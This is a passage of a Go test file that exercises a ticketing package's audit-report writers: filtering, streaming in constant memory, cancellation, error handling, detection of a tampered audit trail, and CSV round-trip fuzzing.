	require.NoError(t, ticketing.WriteAuditHTML(ctx, &buf, s, ticketing.AuditQuery{TicketNumber: "INC0000001", NewestFirst: true, Limit: 2}, opts))
	p = reportParseHTML(t, buf.String())
	assert.Contains(t, p.text, `Records: ticket number is "INC0000001"; newest first.`)
	require.Len(t, p.tables["Tickets"], 1)
	assert.Equal(t, wantTickets[1], p.tables["Tickets"][0])
	var seqs []string
	for _, r := range p.tables["Records"] {
		seqs = append(seqs, r[0])
	}
	assert.Equal(t, []string{"7", "6", "3", "1"}, seqs)
	if diff := cmp.Diff([][]string{{"bob", "1", "2", ts(11, 0), ts(11, 0), "reason_required ×1"}}, p.tables["Denied attempts by user"]); diff != "" {
		t.Fatalf("denied per user in a filtered report (-want +got):\n%s", diff)
	}
}

func TestWriteAuditHTMLDefaults(t *testing.T) {
	ctx := context.Background()
	var recs []ticketing.AuditRecord
	for i := range 7 {
		recs = append(recs, ticketing.AuditRecord{Time: reportAt(9, i), Action: ticketing.ActionView, SecretID: fmt.Sprintf("s%d", i),
			User: fmt.Sprintf("u%d", i), TicketNumber: "INC0000009", Outcome: ticketing.OutcomeGranted})
	}
	s, _ := reportFill(t, recs)
	before := time.Now().UTC().Add(-time.Second)
	var buf bytes.Buffer
	require.NoError(t, ticketing.WriteAuditHTML(ctx, &buf, s, ticketing.AuditQuery{}, ticketing.ReportOptions{}))
	p := reportParseHTML(t, buf.String())
	assert.Contains(t, buf.String(), "<title>Audit report</title>")
	// DefaultMaxSummaryValues of 7 distinct secrets and users.
	require.Len(t, p.tables["Tickets"], 1)
	more := fmt.Sprintf(" and %d more", 7-ticketing.DefaultMaxSummaryValues)
	assert.True(t, strings.HasSuffix(p.tables["Tickets"][0][2], more), p.tables["Tickets"][0][2])
	assert.True(t, strings.HasSuffix(p.tables["Tickets"][0][3], more), p.tables["Tickets"][0][3])
	// The generated-at time is the clock's.
	m := regexp.MustCompile(`Generated <time datetime="([^"]+)">`).FindStringSubmatch(buf.String())
	require.NotNil(t, m)
	gen, err := time.Parse(time.RFC3339Nano, m[1])
	require.NoError(t, err)
	assert.False(t, gen.Before(before), "generated at %v, before the test began at %v", gen, before)
	assert.False(t, gen.After(time.Now().Add(time.Second)))
}

func TestReportsEmptyStore(t *testing.T) {
	ctx := context.Background()
	s := ticketing.NewMemoryStore()

	var c bytes.Buffer
	require.NoError(t, ticketing.WriteAuditCSV(ctx, &c, s, ticketing.AuditQuery{}))
	assert.Equal(t, strings.Join(reportCSVHeader, ",")+"\n", c.String())
	got, err := reportReadCSV(c.Bytes())
	require.NoError(t, err)
	assert.Empty(t, got)

	var j bytes.Buffer
	require.NoError(t, ticketing.WriteAuditJSONL(ctx, &j, s, ticketing.AuditQuery{}))
	assert.Empty(t, j.String())

	var h bytes.Buffer
	require.NoError(t, ticketing.WriteAuditHTML(ctx, &h, s, ticketing.AuditQuery{}, ticketing.ReportOptions{Now: func() time.Time { return reportDay }}))
	p := reportParseHTML(t, h.String())
	assert.Equal(t, [][]string{{"No record names a ticket."}}, p.tables["Tickets"])
	assert.Equal(t, [][]string{{"No denied attempts."}}, p.tables["Denied attempts by user"])
	assert.Equal(t, [][]string{{"No records."}}, p.tables["Records"])
	assert.Contains(t, p.text, "0 records (0 granted, 0 denied).")
	assert.True(t, strings.HasSuffix(h.String(), "</html>\n"))
}

// reportStore wraps an AuditStore and records the pages asked for. It can
// pass the store a context of its own and run a hook before each query.
type reportStore struct {
	ticketing.AuditStore
	written   *int64 // bytes the report has written so far, if tracked
	ignoreCtx bool   // query the store with context.Background()
	before    func(call int, q ticketing.AuditQuery)
	after     func(call int, page *ticketing.AuditPage)
	calls     []reportCall
}

type reportCall struct {
	limit, n      int
	first         bool // no cursor: a new pass
	writtenBefore int64
}

func (s *reportStore) QueryAudit(ctx context.Context, q ticketing.AuditQuery) (ticketing.AuditPage, error) {
	c := reportCall{limit: q.Limit, first: q.Cursor == ""}
	if s.written != nil {
		c.writtenBefore = *s.written
	}
	if s.before != nil {
		s.before(len(s.calls), q)
	}
	if s.ignoreCtx {
		ctx = context.Background()
	}
	page, err := s.AuditStore.QueryAudit(ctx, q)
	if s.after != nil {
		s.after(len(s.calls), &page)
	}
	c.n = len(page.Records)
	s.calls = append(s.calls, c)
	return page, err
}

type reportCountingWriter struct {
	n      int64
	writes int
}

func (w *reportCountingWriter) Write(p []byte) (int, error) {
	w.n += int64(len(p))
	w.writes++
	return len(p), nil
}

// reportWriters runs each report into w.
var reportWriters = []struct {
	name  string
	write func(ctx context.Context, w io.Writer, s ticketing.AuditStore, q ticketing.AuditQuery) error
}{
	{"csv", ticketing.WriteAuditCSV},
	{"jsonl", ticketing.WriteAuditJSONL},
	{"html", func(ctx context.Context, w io.Writer, s ticketing.AuditStore, q ticketing.AuditQuery) error {
		return ticketing.WriteAuditHTML(ctx, w, s, q, ticketing.ReportOptions{Now: func() time.Time { return reportDay }})
	}},
}

func TestReportsStreamInConstantMemory(t *testing.T) {
	const records = 50_000
	s := ticketing.NewMemoryStore()
	ctx := context.Background()
	for i := range records {
		r := ticketing.AuditRecord{Time: reportDay.Add(time.Duration(i) * time.Second), Action: ticketing.ActionView,
			SecretID: fmt.Sprintf("s-%03d", i%100), User: fmt.Sprintf("user%02d", i%40), TicketSystemID: "sn",
			TicketNumber: fmt.Sprintf("INC%07d", i%5000), Reason: "routine maintenance", Outcome: ticketing.OutcomeGranted,
			URL: fmt.Sprintf("https://sn.example/incident?number=INC%07d", i%5000)}
		if i%10 == 0 {
			r.Outcome, r.DenialCode, r.URL = ticketing.OutcomeDenied, "reason_required", ""
		}
		_, err := s.AppendAudit(ctx, r)
		require.NoError(t, err)
	}
	for _, rw := range reportWriters {
		t.Run(rw.name, func(t *testing.T) {
			// The HTML report renders rows through html/template, which
			// costs more (most of all under -race): it runs over the first
			// 10,000 records.
			q, n := ticketing.AuditQuery{}, records
			if rw.name == "html" {
				n = 10_000
				q.Until = reportDay.Add(time.Duration(n) * time.Second)
			}
			w := &reportCountingWriter{}
			cs := &reportStore{AuditStore: s, written: &w.n}
			require.NoError(t, rw.write(ctx, w, cs, q))

			pages := n / ticketing.MaxAuditPageSize
			passes := 1
			if rw.name == "html" {
				passes = 2
			}
			require.Len(t, cs.calls, passes*pages)
			for _, c := range cs.calls {
				require.Equal(t, ticketing.MaxAuditPageSize, c.limit, "page size asked for")
				require.LessOrEqual(t, c.n, ticketing.MaxAuditPageSize)
			}
			// The writing pass (the last one) wrote each page before it
			// asked for the one after next: at page i, at least what the
			// pages before i-1 hold (with room for row lengths that vary
			// and the report's buffer) has reached w.
			stream := cs.calls[(passes-1)*pages:]
			require.True(t, stream[0].first)
			total := w.n
			for i, c := range stream {
				if i < 2 {
					continue
				}
				floor := int64(float64(total)*float64(i-1)/float64(pages)*0.8) - 64<<10
				require.GreaterOrEqual(t, c.writtenBefore, floor, "page %d of %d asked for with only %d of %d bytes written", i, pages, c.writtenBefore, total)
			}
			require.Greater(t, stream[pages-1].writtenBefore, total/2, "most of the report was written before the last page was read")
			require.Greater(t, w.writes, pages, "written in many pieces")
		})
	}
}

func TestReportsUseTheQueryPageSize(t *testing.T) {
	s, _ := reportFill(t, reportHostileRecords())
	for _, rw := range reportWriters {
		cs := &reportStore{AuditStore: s}
		require.NoError(t, rw.write(context.Background(), io.Discard, cs, ticketing.AuditQuery{Limit: 4}))
		require.NotEmpty(t, cs.calls)
		for _, c := range cs.calls {
			require.Equal(t, 4, c.limit, rw.name)
		}
	}
}

func TestReportsStopWhenCancelled(t *testing.T) {
	var recs []ticketing.AuditRecord
	for i := range 1000 {
		recs = append(recs, ticketing.AuditRecord{Time: reportDay.Add(time.Duration(i) * time.Second), Action: ticketing.ActionView,
			SecretID: "s-1", User: "alice", TicketNumber: fmt.Sprintf("INC%07d", i), Outcome: ticketing.OutcomeGranted})
	}
	s, _ := reportFill(t, recs)

	for _, rw := range reportWriters {
		t.Run(rw.name+"/before", func(t *testing.T) {
			ctx, cancel := context.WithCancel(context.Background())
			cancel()
			w := &reportCountingWriter{}
			cs := &reportStore{AuditStore: s}
			err := rw.write(ctx, w, cs, ticketing.AuditQuery{})
			require.ErrorIs(t, err, context.Canceled)
			assert.Empty(t, cs.calls)
			assert.Zero(t, w.n)
		})
		// A store that does not look at ctx: the report itself notices,
		// within the page the cancellation came in.
		passes := 1
		if rw.name == "html" {
			passes = 2
		}
		for pass := range passes {
			t.Run(fmt.Sprintf("%s/pass%d", rw.name, pass+1), func(t *testing.T) {
				ctx, cancel := context.WithCancel(context.Background())
				defer cancel()
				var buf bytes.Buffer
				cancelAt := pass*10 + 2 // 10 pages of 100 per pass
				cs := &reportStore{AuditStore: s, ignoreCtx: true, before: func(call int, _ ticketing.AuditQuery) {
					if call == cancelAt {
						cancel()
					}
				}}
				err := rw.write(ctx, &buf, cs, ticketing.AuditQuery{Limit: 100})
				require.ErrorIs(t, err, context.Canceled)
				require.Len(t, cs.calls, cancelAt+1, "no page read after the cancellation")
				// Nothing of the page that came after the cancellation was
				// written.
				out := buf.String()
				if rw.name == "html" {
					if pass == 0 {
						require.Empty(t, out, "the page starts after the first pass")
						return
					}
					i := strings.Index(out, "<h2>Records</h2>")
					require.Positive(t, i)
					out = out[i:]
				}
				assert.NotContains(t, out, fmt.Sprintf("INC%07d", (cancelAt-pass*10)*100))
			})
		}
	}
}

// reportFailingWriter fails once it has taken n bytes.
type reportFailingWriter struct{ n int }

var errReportWrite = errors.New("writer gave up")

func (w *reportFailingWriter) Write(p []byte) (int, error) {
	if len(p) > w.n {
		n := w.n
		w.n = 0
		return n, errReportWrite
	}
	w.n -= len(p)
	return len(p), nil
}

func TestReportsReturnWriteErrors(t *testing.T) {
	s, _ := reportFill(t, reportHostileRecords())
	for _, rw := range reportWriters {
		for _, n := range []int{0, 100, 3000} {
			err := rw.write(context.Background(), &reportFailingWriter{n: n}, s, ticketing.AuditQuery{})
			require.ErrorIs(t, err, errReportWrite, "%s after %d bytes", rw.name, n)
		}
	}
	// And store errors.
	boom := errors.New("store down")
	for _, rw := range reportWriters {
		cs := &reportStore{AuditStore: reportBrokenStore{boom}}
		require.ErrorIs(t, rw.write(context.Background(), io.Discard, cs, ticketing.AuditQuery{}), boom, rw.name)
	}
	// An invalid query is the store's to refuse.
	for _, rw := range reportWriters {
		err := rw.write(context.Background(), io.Discard, s, ticketing.AuditQuery{Limit: ticketing.MaxAuditPageSize + 1})
		require.ErrorIs(t, err, ticketing.ErrInvalidQuery, rw.name)
	}
}

type reportBrokenStore struct{ err error }

func (b reportBrokenStore) AppendAudit(context.Context, ticketing.AuditRecord) (ticketing.AuditRecord, error) {
	return ticketing.AuditRecord{}, b.err
}
func (b reportBrokenStore) QueryAudit(context.Context, ticketing.AuditQuery) (ticketing.AuditPage, error) {
	return ticketing.AuditPage{}, b.err
}
func (b reportBrokenStore) CountAudit(context.Context, ticketing.AuditQuery) (int64, error) {
	return 0, b.err
}

func TestWriteAuditHTMLTrailGrowsBetweenPasses(t *testing.T) {
	for _, newestFirst := range []bool{false, true} {
		t.Run(fmt.Sprint("newestFirst=", newestFirst), func(t *testing.T) {
			ctx := context.Background()
			var recs []ticketing.AuditRecord
			for i := range 25 {
				recs = append(recs, ticketing.AuditRecord{Time: reportAt(9, i), Action: ticketing.ActionView, SecretID: "s-1",
					User: "alice", TicketNumber: "INC0000001", Outcome: ticketing.OutcomeGranted})
			}
			s, _ := reportFill(t, recs)
			passes := 0
			cs := &reportStore{AuditStore: s, before: func(_ int, q ticketing.AuditQuery) {
				if q.Cursor != "" {
					return
				}
				passes++
				if passes == 2 { // between the passes, another writer appends
					for i := range 3 {
						_, err := s.AppendAudit(ctx, ticketing.AuditRecord{Time: reportAt(10, i), Action: ticketing.ActionView,
							SecretID: "s-1", User: "mallory", TicketNumber: "INC0000001", Outcome: ticketing.OutcomeDenied})
						require.NoError(t, err)
					}
				}
			}}
			var buf bytes.Buffer
			require.NoError(t, ticketing.WriteAuditHTML(ctx, &buf, cs, ticketing.AuditQuery{NewestFirst: newestFirst, Limit: 10},
				ticketing.ReportOptions{Now: func() time.Time { return reportDay }}))
			require.Equal(t, 2, passes)
			p := reportParseHTML(t, buf.String())
			require.Len(t, p.tables["Records"], 25, "the rows are the records the summary counted")
			assert.NotContains(t, p.text, "mallory")
			assert.Equal(t, "25", p.tables["Tickets"][0][6])
		})
	}
}

func TestWriteAuditHTMLTrailChangedInPlace(t *testing.T) {
	ctx := context.Background()
	var recs []ticketing.AuditRecord
	for i := range 25 {
		recs = append(recs, ticketing.AuditRecord{Time: reportAt(9, i), Action: ticketing.ActionView, SecretID: "s-1",
			User: "alice", TicketNumber: "INC0000001", Outcome: ticketing.OutcomeGranted})
	}
	s, _ := reportFill(t, recs)
	for name, tamper := range map[string]func(page []ticketing.AuditRecord) []ticketing.AuditRecord{
		"unchanged": func(page []ticketing.AuditRecord) []ticketing.AuditRecord { return page },
		"removed":   func(page []ticketing.AuditRecord) []ticketing.AuditRecord { return slices.Delete(page, 2, 3) },
		"edited": func(page []ticketing.AuditRecord) []ticketing.AuditRecord {
			page[1].Outcome = ticketing.OutcomeDenied // Hash left as it was
			return page
		},
		"swapped": func(page []ticketing.AuditRecord) []ticketing.AuditRecord {
			page[0], page[1] = page[1], page[0]
			return page
		},
	} {
		t.Run(name, func(t *testing.T) {
			// A store whose second reading differs from the first.
			passes := 0
			cs := &reportStore{AuditStore: s,
				before: func(_ int, q ticketing.AuditQuery) {
					if q.Cursor == "" {
						passes++
					}
				},
				after: func(call int, page *ticketing.AuditPage) {
					if passes == 2 && call == 4 { // the second page of the second pass
						page.Records = tamper(slices.Clone(page.Records))
					}
				},
			}
			err := ticketing.WriteAuditHTML(ctx, io.Discard, cs, ticketing.AuditQuery{Limit: 10}, ticketing.ReportOptions{})
			require.Equal(t, 2, passes)
			if name == "unchanged" {
				require.NoError(t, err)
				return
			}
			require.Error(t, err)
			assert.Contains(t, err.Error(), "changed while the report was written")
		})
	}
}

func FuzzAuditCSVRoundTrip(f *testing.F) {
	for i, h := range reportHostile {
		f.Add(h, reportHostile[(i+5)%len(reportHostile)])
	}
	f.Add("\xff\xfe", "\x00")
	f.Add("a\"b", "\r")
	f.Fuzz(func(t *testing.T, ticket, reason string) {
		s := ticketing.NewMemoryStore()
		stored, err := s.AppendAudit(context.Background(), ticketing.AuditRecord{
			Time: reportAt(9, 0), Action: ticketing.ActionView, SecretID: "s-1", User: "alice",
			TicketSystemID: "sn", TicketNumber: ticket, Reason: reason, URL: reason, Outcome: ticketing.OutcomeDenied,
			DenialMessage: ticket,
		})
		require.NoError(t, err)
		var buf bytes.Buffer
		require.NoError(t, ticketing.WriteAuditCSV(context.Background(), &buf, s, ticketing.AuditQuery{}))

		got, err := reportReadCSV(buf.Bytes())
		require.NoError(t, err)
		if diff := cmp.Diff([]ticketing.AuditRecord{stored}, got); diff != "" {
			t.Fatalf("round trip (-stored +read):\n%s", diff)
		}
		reportCheckCSVCells(t, buf.Bytes(), []ticketing.AuditRecord{stored})
	})
}
